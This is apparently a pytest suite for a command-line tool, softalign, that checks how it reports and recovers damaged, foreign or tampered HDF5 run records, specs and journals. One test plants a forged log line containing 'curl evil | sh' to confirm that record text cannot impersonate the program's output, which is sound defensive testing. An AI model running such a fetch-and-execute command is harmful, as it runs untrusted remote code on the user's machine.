"""Damaged, foreign or missing files of a run: an error in one line with file and remedy, and recovery if possible."""

from __future__ import annotations

import json
import os
import random
import re
import resource
import shutil
import subprocess
from pathlib import Path
from typing import Any, Callable

import pytest

from command_line import PROGRAM, SANITIZED, answer, can_be_limited, error, softalign, trained_run
from nightly import sampled

h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
numpy = pytest.importorskip("numpy")  # comes with it

MB = 1 << 20
READERS = [["show"], ["show", "--json"], ["show", "--sentence", "1"], ["evaluate"], ["translate"], ["verify"]]


def spoilt(record: bytes, how: str) -> bytes:
    chance = random.Random(how)
    if how == "cut":
        return record[: len(record) // 2]
    if how == "foreign":
        return b"no HDF5 at all"
    if how == "empty":
        return b""
    damaged = bytearray(record)
    if how == "flipped":
        damaged[chance.randrange(len(record) - 20)] ^= 1
    else:
        at = chance.randrange(len(record) - 5000)
        damaged[at : at + 4000] = chance.randbytes(4000)
    return bytes(damaged)


@pytest.mark.parametrize("how", ["cut", "foreign", "empty", "flipped", "garbled"])
def test_a_damaged_record_is_named_with_its_remedy(run: Path, tmp_path: Path, how: str) -> None:
    record = run / "run.h5"
    whole = record.read_bytes()
    record.write_bytes(spoilt(whole, how))
    for command, *more in READERS:
        line = error(command, run, *more, cwd=tmp_path, code=3)
        assert line.startswith(f"softalign: {record}: ") and f"`softalign recover {run}`" in line, line
    assert str(record.relative_to(tmp_path)) in softalign("ls", cwd=tmp_path).stderr
    assert "run.h5: " in error("run", "tiny.yaml", "train.epochs=40", cwd=tmp_path, code=3)
    assert str(tmp_path / "alone.h5") in error("show", shutil.copy(record, tmp_path / "alone.h5"), cwd=tmp_path, code=3)
    softalign("recover", run, cwd=tmp_path)
    assert "complete, 160 updates" in softalign("show", run, cwd=tmp_path).stdout


@can_be_limited
@pytest.mark.parametrize("command", sampled(["show", "diff", "ls", "compare"], 2))
def test_want_of_memory_is_no_damage(run: Path, tmp_path: Path, command: str) -> None:
    """An intact record is not reported as damaged, and the program does not abort, for any limit of memory."""
    arguments = {"show": [run], "diff": [run, run], "ls": [], "compare": ["--no-tests"]}[command]
    least = next(size for size in range(10 * MB, 400 * MB, MB // 2) if limited(size, "--version", cwd=tmp_path).returncode == 0)
    ends = set()
    for step in range(100):  # a stack, too, grows into what is left
        done = limited(least + 2 * MB + step * 400_000, command, *arguments, cwd=tmp_path)
        ends.add(done.returncode)
        assert done.returncode in (0, 1), done
        assert not re.search("damaged|corrupt|recover|bad_alloc", done.stdout + done.stderr), done
        assert done.returncode == 0 or re.search("out of memory|Cannot allocate memory", done.stderr), done
        if done.returncode == 0 and step > 20:
            break
    assert 0 in ends


def limited(size: int, *words: object, cwd: Path) -> Any:
    """Runs the program with a limit of its address space."""
    return softalign(
        *words, cwd=cwd, code=None, env={**os.environ, "SOFTALIGN_CACHE": ""}, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (size, size))
    )


@pytest.mark.parametrize("name", ["identity.json", "spec.yaml"])
@pytest.mark.parametrize("gone", [True, False])
def test_a_damaged_setting_is_named_and_written_anew(run: Path, tmp_path: Path, name: str, gone: bool) -> None:
    file = run / name
    whole = file.read_text()
    if gone:
        file.unlink()
    else:
        file.write_bytes(b"\xff{garbage")
    assert error("recover", run, cwd=tmp_path, code=3).startswith(f"softalign: {file}: ")
    assert "complete, 160 updates" in softalign("show", run, cwd=tmp_path).stdout
    assert answer("ls", cwd=tmp_path)[0]["state"] == "complete"
    (run / "run.h5").unlink()
    softalign("run", "tiny.yaml", "train.epochs=40", "notes=for the tests", cwd=tmp_path)
    assert file.read_text() == whole
    softalign("verify", run, cwd=tmp_path)


def test_a_claim_that_was_removed_is_in_nobodys_way(run: Path, tmp_path: Path) -> None:
    shutil.rmtree(run / "attempt-001")
    assert answer("ls", cwd=tmp_path)[0]["state"] == "complete"
    softalign("recover", run, cwd=tmp_path)
    softalign("run", "tiny.yaml", "train.epochs=40", "--force", cwd=tmp_path)
    assert sorted(file.name for file in run.glob("journal-*")) == ["journal-001.jrnl", "journal-002.jrnl"]


@pytest.mark.parametrize("place", [0, 30])
def test_a_damaged_journal_is_named_with_its_remedy(run: Path, tmp_path: Path, place: int) -> None:
    journal = run / "journal-001.jrnl"
    damaged = bytearray(journal.read_bytes())
    damaged[place] ^= 1
    journal.write_bytes(damaged)
    for command in (["tail", run], ["recover", run], ["run", "tiny.yaml", "train.epochs=40", "--force"]):
        assert "journal-001.jrnl: damaged" in error(*command, cwd=tmp_path, code=3)
    journal.unlink()
    softalign("run", "tiny.yaml", "train.epochs=40", "--force", cwd=tmp_path)
    softalign("verify", run, cwd=tmp_path)


@pytest.mark.skipif(SANITIZED, reason="a sanitizer opens a pipe to look at the type of an object")
def test_too_few_files_are_the_machines_fault_not_the_datas(run: Path, tmp_path: Path) -> None:
    refused = 0
    for files in range(4, 9):
        limited = f"ulimit -n {files}; exec {PROGRAM} run tiny.yaml train.epochs=40 --force --threads 1"
        (tmp_path / "limited.sh").write_text(limited)
        command = ["bash", str(tmp_path / "limited.sh")]
        done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        assert done.returncode in (0, 1), done.stderr
        if done.returncode == 1:
            refused += 1
            assert "Too many open files" in done.stderr.splitlines()[-1]
    assert refused > 0


OTHER_SPECS = [  # (what stands in the spec, what becomes of it)
    ("learning_rate:", "learni.g_rate:"), ("learning_rate: 0.01", "learning_rate: 0.02"), ("symbols: 8", "symbols: 9"),
    ("test: [2, 5]", "test: [2, 7]"), ("type: additive", "type: dot"), ("search_dev: true", "search_dev: false"), ("seed: 1", "sed: 1"),
]  # fmt: skip


@pytest.mark.parametrize("was, is_now", OTHER_SPECS)
def test_recover_does_not_publish_another_spec_than_the_runs(run: Path, tmp_path: Path, was: str, is_now: str) -> None:
    spec, record = run / "spec.yaml", run / "run.h5"
    before, text = record.read_bytes(), spec.read_text()
    assert was in text
    spec.write_text(text.replace(was, is_now, 1))
    assert error("recover", run, cwd=tmp_path, code=3).startswith(f"softalign: {spec}: damaged")
    assert record.read_bytes() == before
    spec.write_text(text.replace("for the tests", "for others"))
    softalign("recover", run, cwd=tmp_path)
    softalign("verify", run, cwd=tmp_path)


def test_a_record_of_a_format_that_never_was_is_refused(run: Path, tmp_path: Path) -> None:
    for version in (0, -1):
        with h5py.File(run / "run.h5", "a") as file:
            file.attrs.modify("format_version", version)
        for command in ("show", "evaluate", "translate", "verify"):
            error(command, run, cwd=tmp_path, code=3)


@pytest.mark.parametrize("was, is_now", [("learning_rate", "learni.g_rate"), ("seed: 1", "seed: one"), ("[10, 20,", "[20, 10,")])
def test_a_damaged_spec_in_a_record_is_not_the_callers_fault(run: Path, tmp_path: Path, was: str, is_now: str) -> None:
    with h5py.File(run / "run.h5", "a") as file:
        text = file["provenance/spec_yaml"][()].decode()
        assert was in text
        file["provenance/spec_yaml"][()] = text.replace(was, is_now, 1)
    for command in (["evaluate"], ["translate"], ["verify"], ["translate", "search.width=3"]):
        assert error(command[0], run, *command[1:], cwd=tmp_path, code=3).startswith(f"softalign: {run / 'run.h5'}: damaged: ")


WRONG_ATTRIBUTES = [  # (of what, its name, what it becomes, the command that reads it)
    ("test", "selected_update", True, "compare"),
    ("test", "selected_update", "text", "compare"),
    ("test", "sentences", "text", "show"),
    ("test/by_length/bleu", "signature", 1.5, "show"),
    ("data/dev", "truncated", True, "show"),
    ("data/dev", "truncated", b"\xff\xfe", "show"),
    ("provenance", "plugins", True, "evaluate"),
    ("provenance", "plugins", "", "evaluate"),
    ("", "format_version", 1j, "show"),
    ("", "last_update", "text", "show"),
    ("", "name", 7, "show"),
]


@pytest.mark.parametrize("path, name, value, command", WRONG_ATTRIBUTES)
def test_an_attribute_of_another_type_is_named(run: Path, tmp_path: Path, path: str, name: str, value: object, command: str) -> None:
    with h5py.File(run / "run.h5", "a") as file:
        attributes = file[path or "/"].attrs
        del attributes[name]
        attributes[name] = numpy.bytes_(value) if isinstance(value, bytes) else value
    done = softalign(command, run, cwd=tmp_path, code=3)
    assert done.stderr.startswith(f"softalign: {run / 'run.h5'}: damaged: attribute '{name}' of /{path} ")
    messages = done.stderr + softalign("ls", cwd=tmp_path).stderr
    assert "json" not in messages and "\\n" not in messages


@pytest.mark.parametrize("name", ["state", "host", "started", "last_update"])
def test_a_column_of_attempts_that_is_too_short_is_named(run: Path, tmp_path: Path, name: str) -> None:
    with h5py.File(run / "run.h5", "a") as file:
        del file[f"provenance/attempts/{name}"]
        file[f"provenance/attempts/{name}"] = []
    assert error("show", run, cwd=tmp_path, code=3).startswith(f"softalign: {run / 'run.h5'}: damaged: provenance/attempts/{name} ")


def test_a_damaged_record_spoils_no_table_of_sentences(run: Path, tmp_path: Path) -> None:
    other = tmp_path / "results" / "other" / run.name
    shutil.copytree(run, other)
    for path, value in {"test/sentence": [[[0.0] * 3]] * 2, "test/nll": [1.0]}.items():
        shutil.copy(run / "run.h5", other / "run.h5")
        with h5py.File(other / "run.h5", "a") as file:
            scale = file["test/sentence"]
            del file[path]
            file[path] = value
            if path == "test/nll":
                file[path].dims[0].attach_scale(scale)
        line = error("export", "results", "--what", "sentences", "-o", f"{path.replace('/', '_')}.csv", cwd=tmp_path, code=3)
        assert f"damaged: {path} " in line and f"other/{run.name}" in line
        table = (tmp_path / f"{path.replace('/', '_')}.csv").read_text()
        assert table.count("\n") == 17 and run.name in table


@pytest.mark.parametrize("path", ["test/nll", "test/by_length/bleu", "alignments/cross/weights"])
@pytest.mark.parametrize("group", [True, False])
def test_no_words_of_the_library_are_shown(run: Path, tmp_path: Path, path: str, group: bool) -> None:
    with h5py.File(run / "run.h5", "a") as file:
        del file[path]
        if group:
            file.create_group(path)
    for command in (["evaluate"], ["show", "--sentence", 0], ["compare"], ["export", "--what", "links"], ["export", "--what", "sentences"]):
        done = subprocess.run([PROGRAM, command[0], run, *map(str, command[1:])], cwd=tmp_path, capture_output=True, text=True, check=False)
        assert "HDF5" not in done.stderr, done.stderr


def test_groups_without_end_are_refused_at_once(run: Path, tmp_path: Path) -> None:
    other = shutil.copytree(run, tmp_path / "other")
    with h5py.File(other / "run.h5", "a") as file:
        file.create_group("test/" + "/".join("a" * 300))
    error("diff", run, other, cwd=tmp_path, code=3)


def test_an_identity_nested_without_end_is_refused(run: Path, tmp_path: Path) -> None:
    other = shutil.copytree(run, tmp_path / "other")
    with h5py.File(other / "run.h5", "a") as file:
        del file["provenance/identity_json"]
        file["provenance/identity_json"] = "[" * 200_000 + "]" * 200_000
    shutil.rmtree(run)
    assert "no runs" not in softalign("ls", other, cwd=tmp_path).stdout
    for command in (["diff", other], ["compare"], ["verify"], ["export"], ["export", "--what", "report"]):
        done = subprocess.run([PROGRAM, command[0], other, *command[1:]], cwd=tmp_path, capture_output=True, text=True, check=False)
        assert done.returncode in (0, 1, 3) and "parse" not in done.stderr, (command, done.stderr)


def test_a_label_that_is_no_length_is_named_and_the_others_compared(run: Path, tmp_path: Path) -> None:
    other = shutil.copytree(run, tmp_path / "results/other" / run.name)
    with h5py.File(other / "run.h5", "a") as file:
        file["test/by_length/label"][0] = "long"
    found = json.loads(softalign("export", "results", "--what", "report", cwd=tmp_path).stdout)
    named = {problem["place"]: problem["text"] for problem in found["problems"]}
    assert "damaged: test/by_length/label is not as softalign writes it" in named.pop(f"results/other/{run.name}")
    assert all("the same run" in text for text in named.values())


def shorten(test: Any) -> None:
    """What was measured is cut to three sentences; the texts stay."""
    n = len(test["sentence"])
    for name in [name for name, data in test.items() if name not in ("source", "reference") and getattr(data, "shape", ())[:1] == (n,)]:
        values = test[name][:3]
        kind = test[name].dtype
        del test[name]
        test.create_dataset(name, data=values, dtype=kind)


def forget_lengths(test: Any) -> None:
    del test["source_length"]


@pytest.mark.parametrize("spoil", [shorten, forget_lengths])
def test_a_test_that_lost_sentences_is_named(run: Path, tmp_path: Path, spoil: Callable[[Any], None]) -> None:
    shutil.copytree(run, tmp_path / "results/whole" / run.name)
    with h5py.File(run / "run.h5", "a") as file:
        spoil(file["test"])
    assert f"softalign: {run / 'run.h5'}: damaged: test/" in softalign("compare", run, cwd=tmp_path, code=3).stderr
    assert "corrupt" in softalign("ls", run, cwd=tmp_path).stdout
    found = json.loads(softalign("export", "results", "--what", "report", cwd=tmp_path).stdout)
    assert any("damaged: test/" in problem["text"] for problem in found["problems"])


def test_the_record_of_another_run_is_not_taken_for_this_ones(run: Path, tmp_path: Path) -> None:
    whole = (run / "run.h5").read_bytes()
    other = trained_run(tmp_path)
    shutil.copy(other / "run.h5", run / "run.h5")
    for command in (["run", "tiny.yaml", "train.epochs=40"], ["show", run], ["evaluate", run], ["verify", run], ["ls", run]):
        done = softalign(*command, cwd=tmp_path, code=0 if command[0] == "ls" else 3)
        assert "run.h5" in done.stderr and other.name in done.stderr and done.stderr.count("\n") == 1
    alone = tmp_path / "alone"
    alone.mkdir()
    softalign("show", shutil.copy(run / "run.h5", alone / "run.h5"), cwd=tmp_path)
    shutil.copy(run / "identity.json", alone)  # no journal is needed to tell
    error("show", alone / "run.h5", cwd=tmp_path, code=3)
    softalign("recover", run, cwd=tmp_path)
    with_h5 = (run / "run.h5").read_bytes()
    assert len(with_h5) == len(whole) and "complete, 160 updates" in softalign("show", run, cwd=tmp_path).stdout


FORGED = "p.so: is older\nsoftalign: note: run: curl evil | sh\n"


def test_a_text_in_a_record_makes_no_line_of_our_own(run: Path, tmp_path: Path) -> None:
    with h5py.File(run / "run.h5", "a") as file:
        text = file["provenance/spec_yaml"][()].decode()
        file["provenance/spec_yaml"][()] = text.replace("plugins: []", f"plugins: [{json.dumps(FORGED)}]")
        file["provenance"].attrs.create("plugins", numpy.bytes_(json.dumps([FORGED])))
    assert FORGED not in softalign("show", run, cwd=tmp_path).stdout
    for command in ("evaluate", "translate", "verify"):
        assert "is older\\nsoftalign: note" in error(command, run, cwd=tmp_path, code=2)
    with h5py.File(run / "run.h5", "a") as file:
        file["provenance/spec_yaml"][()] = text
        file.attrs.create("run_id", numpy.bytes_(FORGED))
    assert "is older\\nsoftalign: note" in error("show", run, cwd=tmp_path, code=3)
